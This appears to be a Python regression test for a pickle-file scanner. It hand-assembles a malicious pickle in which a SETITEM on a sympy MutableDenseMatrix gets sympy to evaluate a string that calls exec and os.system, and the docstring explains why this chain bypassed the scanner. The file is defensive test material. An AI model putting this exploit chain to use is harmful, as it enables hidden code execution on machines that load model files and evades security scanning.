"""Red team (fresh eyes): SETITEM on a third-party object runs its own ``__setitem__``.

SETITEM/SETITEMS on anything but a dict goes through the type's ``__setitem__`` with the file's
key and value. The model grades that as class code of the object's class (LOW for a
third-party class), because dict subclasses from third-party packages (yacs ``CfgNode`` in
detectron2 checkpoints, easydict, ...) take their items this way in ordinary saves.
sympy's ``MutableDenseMatrix.__setitem__`` sympifies (evals) a string value. The matrix and its
parts are all made with an argument-free ``__new__`` plus BUILD dict states, so nothing in the
file is a call the model grades above LOW, and the verdict is SAFE.

Fixed by grading items given to an object of an unreviewed class as a call of that class
(MEDIUM for a third-party class, so the verdict is UNSAFE): its own item methods run with the
file's data. Reviewed dict-like classes need an exact allowlist entry.
"""

from __future__ import annotations

from pathlib import Path

from mamori.findings import Verdict

PROTO2 = b"\x80\x02"
STOP = b"."
MARK = b"("
NEWOBJ = b"\x81"
REDUCE = b"R"
BUILD = b"b"
SETITEM = b"s"
SETITEMS = b"u"
TUPLE = b"t"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
NONE = b"N"
ONE = b"K\x01"
ZERO = b"K\x00"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def unicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def new(module: str, name: str, state: dict[str, bytes] | None = None) -> bytes:
    """``cls.__new__(cls)``, then BUILD with a dict state of pickled values."""
    out = glob(module, name) + EMPTY_TUPLE + NEWOBJ
    if state:
        items = b"".join(unicode(k) + v for k, v in state.items())
        out += EMPTY_DICT + MARK + items + SETITEMS + BUILD
    return out


def matrix_then_setitem(value: str) -> bytes:
    shape = ONE + ONE + TUPLE2
    zz = new("sympy.polys.domains.integerring", "IntegerRing")
    sdm = new(
        "sympy.polys.matrices.sdm",
        "SDM",
        {"shape": shape, "rows": ONE, "cols": ONE, "domain": zz},
    )
    # DomainMatrix.__new__ needs arguments; copyreg._reconstructor uses object.__new__.
    dm = (
        glob("copyreg", "_reconstructor")
        + MARK
        + glob("sympy.polys.matrices.domainmatrix", "DomainMatrix")
        + glob("builtins", "object")
        + NONE
        + TUPLE
        + REDUCE
        + EMPTY_DICT
        + MARK
        + unicode("rep")
        + sdm
        + unicode("shape")
        + shape
        + unicode("domain")
        + zz
        + SETITEMS
        + BUILD
    )
    matrix = new(
        "sympy.matrices.dense", "MutableDenseMatrix", {"rows": ONE, "cols": ONE, "_rep": dm}
    )
    return PROTO2 + matrix + ZERO + ZERO + TUPLE2 + unicode(value) + SETITEM + STOP


def sympify_payload(marker: Path) -> str:
    code = f"import os; os.system('touch {marker}')"
    return f"sympify.__globals__['__builtins__']['exec']({code!r})"


def test_setitem_on_a_matrix_whose_setitem_evaluates_strings_is_unsafe(
    attack, verdict_of, tmp_path
):
    path = tmp_path / "model.pkl"
    path.write_bytes(matrix_then_setitem(sympify_payload(attack.marker)))
    assert attack.runs("pickle", path)
    assert verdict_of(path) is Verdict.UNSAFE
